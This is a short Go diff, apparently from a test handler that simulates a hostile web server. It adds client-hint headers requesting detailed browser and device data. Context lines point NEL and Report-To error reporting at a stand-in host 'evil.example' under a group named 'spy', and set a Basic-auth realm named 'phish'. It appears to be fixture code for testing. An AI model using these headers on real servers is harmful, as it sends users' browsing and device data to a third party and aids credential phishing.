@@ -301,6 +301,9 @@ func init() {
 		// where Report-To says, for max_age.
 		w.Header().Set("NEL", `{"report_to":"spy","max_age":31536000,"success_fraction":1.0,"include_subdomains":true}`)
 		w.Header().Set("Report-To", `{"group":"spy","max_age":31536000,"endpoints":[{"url":"https://evil.example/r"}]}`)
+		// Client hints the browser then sends to the whole origin.
+		w.Header().Set("Accept-CH", "Sec-CH-UA-Full-Version-List, Sec-CH-UA-Platform-Version, Device-Memory")
+		w.Header().Set("Critical-CH", "Sec-CH-UA-Full-Version-List")
 		w.Header().Set("WWW-Authenticate", `Basic realm="phish"`)
 		w.Header().Set("X-Fine", "yes")
 		w.Write([]byte("ok"))
